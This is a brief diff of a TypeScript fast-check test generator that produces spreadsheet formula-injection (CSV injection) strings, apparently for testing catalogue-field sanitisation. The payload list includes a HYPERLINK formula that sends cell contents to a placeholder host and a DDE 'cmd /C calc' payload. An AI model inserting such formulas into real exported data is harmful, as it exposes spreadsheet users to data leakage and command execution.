@@ -125,7 +125,7 @@ export function oversizedDefinition(): DefinitionCase {
 }
 
 /** Text a spreadsheet would run as a formula (CSV injection), in every catalogue column agencies fill. */
-export const formulaLike = fc
+const formulaLike = fc
   .tuple(
     fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '\t=', ' =', '\n='),
     fc.constantFrom('HYPERLINK("http://x/?"&A1,"Mở")', "1+cmd|' /C calc'!A0", 'SUM(1,2)', '2+3', 'A1', ''),
